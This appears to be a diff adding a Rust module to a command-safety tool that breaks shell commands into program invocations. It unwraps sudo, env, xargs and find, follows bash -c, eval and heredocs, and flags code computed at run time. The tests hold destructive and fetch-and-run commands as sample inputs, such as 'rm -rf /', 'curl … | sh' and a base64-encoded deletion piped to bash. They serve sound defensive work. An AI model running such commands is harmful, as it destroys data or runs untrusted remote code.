@@ -1,0 +1,638 @@
+//! Turns parsed simple commands into the segments rules are matched against.
+//!
+//! A segment is one program invocation: wrappers (`sudo`, `env`, `xargs`, `find -exec`…) are
+//! unwrapped into further segments, shell strings (`bash -c`, `eval`, `su -c`, heredocs fed to a
+//! shell) are parsed and expanded recursively to a bounded depth, and whatever cannot be known
+//! statically is marked *unverifiable* with the reason.
+
+use crate::shell::{self, Origin, SimpleCommand, Stdin, Word};
+
+/// How deep shell strings inside shell strings are followed before giving up.
+pub const MAX_DEPTH: usize = 8;
+
+/// One program invocation found in a command.
+#[derive(Debug, Clone, PartialEq, Eq, Default)]
+pub struct Segment {
+    /// The program's base name (`/bin/rm` and `\rm` are both `rm`).
+    pub program: String,
+    /// The arguments after the program, after quote removal.
+    pub args: Vec<String>,
+    /// Which arguments contain run-time expansions (parallel to `args`).
+    pub dynamic: Vec<bool>,
+    /// Output redirection targets.
+    pub writes: Vec<String>,
+    /// Programs earlier in the same pipeline (they feed this segment's standard input).
+    pub stdin_from: Vec<String>,
+    /// True when part of a pipeline of two or more commands.
+    pub in_pipeline: bool,
+    /// The function whose body this segment is in, if any.
+    pub in_function: Option<String>,
+    /// Wrappers and shells this segment was found inside, outermost first (`["sudo"]`).
+    pub via: Vec<String>,
+    /// Set when the segment's effect cannot be known statically; says why.
+    pub unverifiable: Option<String>,
+    /// Byte range in the top-level command string, when the segment is directly in it.
+    pub span: Option<(usize, usize)>,
+    /// How many shell strings deep the segment was found (0 for the command itself).
+    pub depth: usize,
+}
+
+impl Segment {
+    /// The segment as a command line (program and arguments, quoted where needed).
+    pub fn text(&self) -> String {
+        let mut s = quote(&self.program);
+        for a in &self.args {
+            s.push(' ');
+            s.push_str(&quote(a));
+        }
+        s
+    }
+}
+
+/// Quotes a word for display the way a person would type it.
+pub fn quote(word: &str) -> String {
+    if !word.is_empty()
+        && word.chars().all(|c| c.is_ascii_alphanumeric() || "-_./=:,+@%^~*?[]{}$…()<>".contains(c))
+    {
+        return word.to_owned();
+    }
+    format!("'{}'", word.replace('\'', r"'\''"))
+}
+
+/// Quotes a word so that a shell reads it back literally (no globbing, no expansion).
+pub fn quote_strict(word: &str) -> String {
+    if !word.is_empty() && word.chars().all(|c| c.is_ascii_alphanumeric() || "-_./=:,+@%".contains(c)) {
+        return word.to_owned();
+    }
+    format!("'{}'", word.replace('\'', r"'\''"))
+}
+
+/// Base name of a program path.
+pub fn basename(program: &str) -> &str {
+    program.rsplit('/').next().unwrap_or(program)
+}
+
+/// Builds the segments of a command string.
+pub fn segments_of_string(command: &str) -> Vec<Segment> {
+    let mut out = Vec::new();
+    expand_string(command, 0, &[], &mut out);
+    out
+}
+
+/// Builds the segments of an argv a shim received (already split by the calling shell).
+pub fn segments_of_argv(argv: &[String]) -> Vec<Segment> {
+    let mut out = Vec::new();
+    let words: Vec<Word> = argv.iter().map(|a| Word { text: a.clone(), ..Word::default() }).collect();
+    let ctx = Ctx { depth: 0, via: &[], stdin: StdinKind::Inherited, upstream: Vec::new(), in_pipeline: false, in_function: None, span: None };
+    expand_words(&words, &[], &ctx, &mut out);
+    out
+}
+
+fn expand_string(command: &str, depth: usize, via: &[String], out: &mut Vec<Segment>) {
+    if depth > MAX_DEPTH {
+        out.push(Segment {
+            program: via.last().cloned().unwrap_or_default(),
+            args: vec![command.to_owned()],
+            dynamic: vec![false],
+            via: via.to_vec(),
+            unverifiable: Some(format!("shell strings nested deeper than {MAX_DEPTH} levels")),
+            depth,
+            ..Segment::default()
+        });
+        return;
+    }
+    let parsed = shell::parse(command);
+    expand_parsed(&parsed.commands, depth, via, out);
+}
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum StdinKind {
+    Inherited,
+    Pipe,
+    Script,
+    File,
+}
+
+struct Ctx<'a> {
+    depth: usize,
+    via: &'a [String],
+    stdin: StdinKind,
+    upstream: Vec<String>,
+    in_pipeline: bool,
+    in_function: Option<String>,
+    span: Option<(usize, usize)>,
+}
+
+fn expand_parsed(commands: &[SimpleCommand], depth: usize, via: &[String], out: &mut Vec<Segment>) {
+    for cmd in commands {
+        let words = shell::split_ifs(&cmd.words);
+        let (stdin, script) = match &cmd.stdin {
+            Stdin::Inherited => (StdinKind::Inherited, None),
+            Stdin::Pipe(_) => (StdinKind::Pipe, None),
+            Stdin::HereDoc { body, .. } => (StdinKind::Script, Some(body.clone())),
+            Stdin::HereString(w) => {
+                if w.dynamic {
+                    (StdinKind::Pipe, None)
+                } else {
+                    (StdinKind::Script, Some(w.text.clone()))
+                }
+            }
+            Stdin::File(_) => (StdinKind::File, None),
+        };
+        let upstream = match &cmd.stdin {
+            Stdin::Pipe(prev) => prev
+                .iter()
+                .filter_map(|&i| commands.get(i))
+                .filter_map(|c| shell::split_ifs(&c.words).first().map(|w| basename(&w.text).to_owned()))
+                .collect(),
+            _ => Vec::new(),
+        };
+        let ctx = Ctx {
+            depth,
+            via,
+            stdin,
+            upstream,
+            in_pipeline: cmd.in_pipeline,
+            in_function: cmd.in_function.clone(),
+            span: if depth == 0 && cmd.origin == Origin::TopLevel { cmd.span } else { None },
+        };
+        let writes: Vec<String> = cmd.writes.iter().map(|w| w.text.clone()).collect();
+        if words.is_empty() {
+            if !writes.is_empty() {
+                // A bare redirection (`> file`) truncates the file: keep it visible to rules.
+                out.push(Segment {
+                    program: String::new(),
+                    writes,
+                    via: via.to_vec(),
+                    depth,
+                    span: ctx.span,
+                    ..Segment::default()
+                });
+            }
+            continue;
+        }
+        let first = out.len();
+        expand_words(&words, &writes, &ctx, out);
+        if let Some(body) = script {
+            // A heredoc or here-string fed to a shell is a script: parse it.
+            let shells_at = (first..out.len()).filter(|&i| is_shell(&out[i].program)).collect::<Vec<_>>();
+            for i in shells_at {
+                if reads_script_from_stdin(&out[i]) {
+                    let mut inner_via = out[i].via.clone();
+                    inner_via.push(out[i].program.clone());
+                    expand_string(&body, depth + 1, &inner_via, out);
+                }
+            }
+        }
+    }
+}
+
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "csh", "tcsh", "busybox-sh"];
+const INTERPRETERS: &[&str] = &[
+    "python", "python2", "python3", "perl", "ruby", "node", "nodejs", "php", "lua", "deno", "bun", "osascript",
+];
+
+fn is_shell(program: &str) -> bool {
+    SHELLS.contains(&program)
+}
+
+fn is_interpreter(program: &str) -> bool {
+    INTERPRETERS.contains(&program) || program.starts_with("python3.")
+}
+
+/// A shell with no `-c` and no script file reads its script from standard input.
+fn reads_script_from_stdin(seg: &Segment) -> bool {
+    let mut i = 0;
+    while i < seg.args.len() {
+        let a = &seg.args[i];
+        if a == "--" {
+            return i + 1 >= seg.args.len();
+        }
+        if a == "-s" {
+            return true;
+        }
+        if a.starts_with('-') || a.starts_with('+') {
+            if a.starts_with("--") || !a.contains('c') {
+                // `-o option` takes a value.
+                if a == "-o" || a == "+o" || a == "-O" || a == "+O" || a == "--rcfile" || a == "--init-file" {
+                    i += 1;
+                }
+                i += 1;
+                continue;
+            }
+            return false; // -c
+        }
+        return false; // a script file
+    }
+    true
+}
+
+fn expand_words(words: &[Word], writes: &[String], ctx: &Ctx<'_>, out: &mut Vec<Segment>) {
+    let Some(first) = words.first() else { return };
+    let program = basename(&first.text).to_owned();
+    let args: Vec<String> = words[1..].iter().map(|w| w.text.clone()).collect();
+    let dynamic: Vec<bool> = words[1..].iter().map(|w| w.dynamic).collect();
+    let mut seg = Segment {
+        program,
+        args,
+        dynamic,
+        writes: writes.to_vec(),
+        stdin_from: ctx.upstream.clone(),
+        in_pipeline: ctx.in_pipeline,
+        in_function: ctx.in_function.clone(),
+        via: ctx.via.to_vec(),
+        unverifiable: None,
+        span: ctx.span,
+        depth: ctx.depth,
+    };
+    if first.dynamic {
+        seg.unverifiable = Some("the program name is computed at run time".into());
+        out.push(seg);
+        return;
+    }
+    if first.process_substitution {
+        seg.unverifiable = Some("the program is a process substitution".into());
+        out.push(seg);
+        return;
+    }
+    let program = seg.program.clone();
+    let mut via = ctx.via.to_vec();
+    via.push(program.clone());
+    let inner_ctx = Ctx {
+        depth: ctx.depth,
+        via: &via,
+        stdin: ctx.stdin,
+        upstream: ctx.upstream.clone(),
+        in_pipeline: ctx.in_pipeline,
+        in_function: ctx.in_function.clone(),
+        span: None,
+    };
+    let rest = &words[1..];
+
+    if is_shell(&program) || program == "su" {
+        if let Some(code) = shell_code_argument(&program, rest) {
+            if code.dynamic {
+                seg.unverifiable = Some(format!("`{program}` runs a script computed at run time"));
+                out.push(seg);
+            } else {
+                out.push(seg);
+                expand_string(&code.text, ctx.depth + 1, &via, out);
+            }
+            return;
+        }
+        if is_shell(&program) {
+            if let Some(reason) = script_source_problem(&program, rest, ctx.stdin) {
+                seg.unverifiable = Some(reason);
+            }
+        }
+        out.push(seg);
+        return;
+    }
+    if is_interpreter(&program) {
+        if let Some(reason) = interpreter_problem(&program, rest, ctx.stdin) {
+            seg.unverifiable = Some(reason);
+        }
+        out.push(seg);
+        return;
+    }
+    match program.as_str() {
+        "eval" => {
+            if rest.iter().any(|w| w.dynamic) {
+                seg.unverifiable = Some("`eval` runs a string computed at run time".into());
+                out.push(seg);
+            } else {
+                let code = rest.iter().map(|w| w.text.as_str()).collect::<Vec<_>>().join(" ");
+                out.push(seg);
+                expand_string(&code, ctx.depth + 1, &via, out);
+            }
+        }
+        "source" | "." => {
+            if rest.first().is_some_and(|w| w.process_substitution)
+                || rest.first().is_some_and(|w| w.text == "/dev/stdin" || w.text == "-")
+            {
+                seg.unverifiable = Some(format!("`{program}` reads a script that is only known at run time"));
+            }
+            out.push(seg);
+        }
+        "find" => {
+            out.push(seg);
+            expand_find(rest, &inner_ctx, out);
+        }
+        "watch" => {
+            out.push(seg);
+            let mut i = 0;
+            while i < rest.len() && rest[i].text.starts_with('-') {
+                if matches!(rest[i].text.as_str(), "-n" | "--interval") {
+                    i += 1;
+                }
+                i += 1;
+            }
+            if i < rest.len() {
+                let code = rest[i..].iter().map(|w| w.text.as_str()).collect::<Vec<_>>().join(" ");
+                if rest[i..].iter().any(|w| w.dynamic) {
+                    out.last_mut().expect("pushed").unverifiable =
+                        Some("`watch` runs a command computed at run time".into());
+                } else {
+                    expand_string(&code, ctx.depth + 1, &via, out);
+                }
+            }
+        }
+        _ => {
+            if let Some(spec) = wrapper_spec(&program) {
+                out.push(seg);
+                if let Some(start) = wrapped_command_start(spec, rest) {
+                    match start {
+                        Wrapped::Argv(i) => expand_words(&rest[i..], &[], &inner_ctx, out),
+                        Wrapped::Shell(text, dynamic) => {
+                            if dynamic {
+                                out.last_mut().expect("pushed").unverifiable =
+                                    Some(format!("`{program}` runs a string computed at run time"));
+                            } else {
+                                expand_string(&text, ctx.depth + 1, &via, out);
+                            }
+                        }
+                    }
+                }
+                return;
+            }
+            out.push(seg);
+        }
+    }
+}
+
+/// The `-c` string of a shell (`-c`, `-lc`, `-ic`, `--login -c`) or of `su -c`.
+fn shell_code_argument<'w>(program: &str, rest: &'w [Word]) -> Option<&'w Word> {
+    let mut i = 0;
+    let mut wants_code = false;
+    while i < rest.len() {
+        let a = rest[i].text.as_str();
+        if a == "--" {
+            break;
+        }
+        if program == "su" {
+            if a == "-c" || a == "--command" {
+                return rest.get(i + 1);
+            }
+            if a.starts_with("--command=") {
+                // Rare; the whole word is the code after the `=`, handled conservatively.
+                return Some(&rest[i]);
+            }
+            i += 1;
+            continue;
+        }
+        if a.starts_with("--") {
+            if a == "--rcfile" || a == "--init-file" {
+                i += 1;
+            }
+            i += 1;
+            continue;
+        }
+        if (a.starts_with('-') || a.starts_with('+')) && a.len() > 1 {
+            if a.starts_with('-') && a[1..].contains('c') {
+                wants_code = true;
+            }
+            if matches!(a, "-o" | "+o" | "-O" | "+O") {
+                i += 1;
+            }
+            i += 1;
+            continue;
+        }
+        return if wants_code { Some(&rest[i]) } else { None };
+    }
+    None
+}
+
+/// For a shell without `-c`: does its script come from somewhere we cannot see?
+fn script_source_problem(program: &str, rest: &[Word], stdin: StdinKind) -> Option<String> {
+    let script = rest.iter().find(|w| !w.text.starts_with('-') && !w.text.starts_with('+'));
+    match script {
+        Some(w) if w.process_substitution => {
+            Some(format!("`{program}` runs a script produced by a process substitution"))
+        }
+        Some(w) if w.text == "/dev/stdin" || w.text.starts_with("/dev/fd/") || w.text.starts_with("/proc/self/fd") => {
+            if stdin == StdinKind::Pipe {
+                Some(format!("`{program}` runs a script piped into it"))
+            } else {
+                None
+            }
+        }
+        Some(w) if w.dynamic => Some(format!("`{program}` runs a script whose path is computed at run time")),
+        Some(_) => None,
+        None => (stdin == StdinKind::Pipe).then(|| format!("`{program}` runs a script piped into it")),
+    }
+}
+
+/// For an interpreter: is the code it runs hidden from us (piped in or computed)?
+fn interpreter_problem(program: &str, rest: &[Word], stdin: StdinKind) -> Option<String> {
+    let mut i = 0;
+    while i < rest.len() {
+        let w = &rest[i];
+        let a = w.text.as_str();
+        if matches!(a, "-c" | "-e" | "-E" | "--eval" | "-r" | "--command") {
+            return match rest.get(i + 1) {
+                Some(code) if code.dynamic && code.text.contains("$(…)") => {
+                    Some(format!("`{program}` runs code computed at run time"))
+                }
+                _ => None,
+            };
+        }
+        if a == "-m" {
+            return None;
+        }
+        if a == "-" {
+            return (stdin == StdinKind::Pipe).then(|| format!("`{program}` runs code piped into it"));
+        }
+        if a.starts_with('-') {
+            i += 1;
+            continue;
+        }
+        if w.process_substitution {
+            return Some(format!("`{program}` runs code produced by a process substitution"));
+        }
+        return None;
+    }
+    (stdin == StdinKind::Pipe).then(|| format!("`{program}` runs code piped into it"))
+}
+
+/// How a wrapper finds the command it runs.
+struct WrapperSpec {
+    /// Options that take a separate value.
+    value_options: &'static [&'static str],
+    /// Positional arguments before the command (e.g. the duration of `timeout`).
+    skip_positionals: usize,
+    /// `NAME=value` words before the command are environment settings (`env`).
+    skips_assignments: bool,
+    /// Options after which the remaining words are joined into a shell string (`sudo -s cmd`).
+    shell_options: &'static [&'static str],
+}
+
+const fn spec(value_options: &'static [&'static str]) -> WrapperSpec {
+    WrapperSpec { value_options, skip_positionals: 0, skips_assignments: false, shell_options: &[] }
+}
+
+/// The wrappers that run another command; extend this table to teach SafeShell a new one.
+fn wrapper_spec(program: &str) -> Option<WrapperSpec> {
+    Some(match program {
+        "sudo" => WrapperSpec {
+            shell_options: &["-s", "-i", "--shell", "--login"],
+            ..spec(&["-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-U", "-T", "-R", "--user", "--group", "--host", "--prompt", "--chdir", "--role", "--type", "--other-user", "--close-from", "--command-timeout", "--chroot"])
+        },
+        "doas" => spec(&["-u", "-C"]),
+        "pkexec" => spec(&["--user"]),
+        "env" => WrapperSpec { skips_assignments: true, ..spec(&["-u", "--unset", "-C", "--chdir", "-S", "--split-string", "-P", "--default-signal", "--ignore-signal", "--block-signal"]) },
+        "command" | "builtin" | "nohup" | "setsid" | "unbuffer" | "caffeinate" | "time" | "busybox" | "catchsegv" => spec(&[]),
+        "exec" => spec(&["-a"]),
+        "nice" => spec(&["-n", "--adjustment"]),
+        "ionice" => spec(&["-c", "-n", "-p", "-P", "-u", "--class", "--classdata"]),
+        "chrt" => WrapperSpec { skip_positionals: 1, ..spec(&[]) },
+        "taskset" => WrapperSpec { skip_positionals: 1, ..spec(&[]) },
+        "timeout" => WrapperSpec { skip_positionals: 1, ..spec(&["-s", "--signal", "-k", "--kill-after"]) },
+        "stdbuf" => spec(&["-i", "-o", "-e", "--input", "--output", "--error"]),
+        "chroot" => WrapperSpec { skip_positionals: 1, ..spec(&["--userspec", "--groups"]) },
+        "flock" => WrapperSpec { skip_positionals: 1, ..spec(&["-w", "--timeout", "-E", "--conflict-exit-code"]) },
+        "xargs" => spec(&["-I", "-L", "-n", "-P", "-s", "-d", "-E", "-a", "--max-args", "--max-procs", "--delimiter", "--arg-file", "--max-chars", "--max-lines", "--replace", "--eof"]),
+        "strace" | "ltrace" => spec(&["-e", "-o", "-p", "-s", "-u", "-E"]),
+        "npx" | "bunx" | "pnpx" => spec(&["-p", "--package"]),
+        "script" => WrapperSpec { shell_options: &["-c", "--command"], ..spec(&[]) },
+        _ => return None,
+    })
+}
+
+enum Wrapped {
+    Argv(usize),
+    Shell(String, bool),
+}
+
+fn wrapped_command_start(spec: WrapperSpec, rest: &[Word]) -> Option<Wrapped> {
+    let mut i = 0;
+    let mut positionals = 0;
+    let mut shell_mode = false;
+    while i < rest.len() {
+        let a = rest[i].text.as_str();
+        if a == "--" {
+            i += 1;
+            break;
+        }
+        if spec.shell_options.contains(&a) {
+            shell_mode = true;
+            i += 1;
+            if spec.value_options.is_empty() && spec.shell_options.contains(&"-c") {
+                // `script -c CMD`: the next word is the command string.
+                return rest.get(i).map(|w| Wrapped::Shell(w.text.clone(), w.dynamic));
+            }
+            continue;
+        }
+        if a.starts_with('-') && a.len() > 1 {
+            if a == "-S" || a == "--split-string" {
+                // `env -S 'cmd args'`: a string split into words.
+                return rest.get(i + 1).map(|w| Wrapped::Shell(w.text.clone(), w.dynamic));
+            }
+            if let Some(s) = a.strip_prefix("--split-string=") {
+                return Some(Wrapped::Shell(s.to_owned(), rest[i].dynamic));
+            }
+            let takes_value = spec.value_options.contains(&a);
+            i += if takes_value { 2 } else { 1 };
+            continue;
+        }
+        if spec.skips_assignments && a.contains('=') && !a.starts_with('=') {
+            i += 1;
+            continue;
+        }
+        if positionals < spec.skip_positionals {
+            positionals += 1;
+            i += 1;
+            continue;
+        }
+        break;
+    }
+    if i >= rest.len() {
+        return None;
+    }
+    if shell_mode {
+        let text = rest[i..].iter().map(|w| w.text.as_str()).collect::<Vec<_>>().join(" ");
+        return Some(Wrapped::Shell(text, rest[i..].iter().any(|w| w.dynamic)));
+    }
+    Some(Wrapped::Argv(i))
+}
+
+fn expand_find(rest: &[Word], ctx: &Ctx<'_>, out: &mut Vec<Segment>) {
+    let mut i = 0;
+    while i < rest.len() {
+        let a = rest[i].text.as_str();
+        if matches!(a, "-exec" | "-execdir" | "-ok" | "-okdir") {
+            let start = i + 1;
+            let mut end = start;
+            while end < rest.len() && rest[end].text != ";" && rest[end].text != "+" {
+                end += 1;
+            }
+            if end > start {
+                expand_words(&rest[start..end], &[], ctx, out);
+            }
+            i = end + 1;
+            continue;
+        }
+        i += 1;
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn texts(cmd: &str) -> Vec<String> {
+        segments_of_string(cmd).iter().map(Segment::text).collect()
+    }
+
+    #[test]
+    fn wrappers_are_unwrapped() {
+        assert_eq!(texts("sudo -u root rm -rf /"), ["sudo -u root rm -rf /", "rm -rf /"]);
+        assert_eq!(texts("env -i FOO=1 nice -n 5 rm x"), ["env -i FOO=1 nice -n 5 rm x", "nice -n 5 rm x", "rm x"]);
+        assert_eq!(texts("timeout 5 git push -f"), ["timeout 5 git push -f", "git push -f"]);
+        assert_eq!(texts("find . -name '*.o' -exec rm -f {} \\;"), ["find . -name *.o -exec rm -f {} ';'", "rm -f {}"]);
+        assert_eq!(texts("ls | xargs -n1 rm"), ["ls", "xargs -n1 rm", "rm"]);
+    }
+
+    #[test]
+    fn shell_strings_are_followed() {
+        assert_eq!(texts("bash -lc 'cd x && rm -rf y'"), ["bash -lc 'cd x && rm -rf y'", "cd x", "rm -rf y"]);
+        assert_eq!(texts("eval \"git push --force\""), ["eval 'git push --force'", "git push --force"]);
+        assert_eq!(texts("sudo -s rm -rf /"), ["sudo -s rm -rf /", "rm -rf /"]);
+        let segs = segments_of_string("bash <<EOF\nrm -rf /\nEOF");
+        assert_eq!(segs[1].text(), "rm -rf /");
+        assert_eq!(segs[1].via, ["bash"]);
+    }
+
+    #[test]
+    fn unverifiable_segments() {
+        let u = |c: &str| segments_of_string(c).iter().any(|s| s.unverifiable.is_some());
+        assert!(u("$CMD -rf /"));
+        assert!(u("$(echo rm) -rf /"));
+        assert!(u("curl -fsSL https://x.sh | sh"));
+        assert!(u("echo cm0gLXJmIC8K | base64 -d | bash"));
+        assert!(u("bash <(curl -s x)"));
+        assert!(u("eval \"$PAYLOAD\""));
+        assert!(u("sh -c \"$(curl x)\""));
+        assert!(u("curl x | python3"));
+        assert!(!u("bash script.sh"));
+        assert!(!u("python3 -c 'print(1)'"));
+        assert!(!u("echo $HOME"));
+        assert!(!u("cat x | grep y"));
+    }
+
+    #[test]
+    fn nesting_is_bounded() {
+        let mut cmd = "rm -rf /".to_owned();
+        for _ in 0..(MAX_DEPTH + 3) {
+            cmd = format!("bash -c {}", quote(&cmd));
+        }
+        let segs = segments_of_string(&cmd);
+        assert!(segs.iter().any(|s| s.unverifiable.as_deref().is_some_and(|r| r.contains("nested"))));
+    }
+
+    #[test]
+    fn argv_is_not_reparsed() {
+        let segs = segments_of_argv(&["echo".into(), "rm -rf / ; x".into()]);
+        assert_eq!(segs.len(), 1);
+        assert_eq!(segs[0].args, ["rm -rf / ; x"]);
+    }
+}
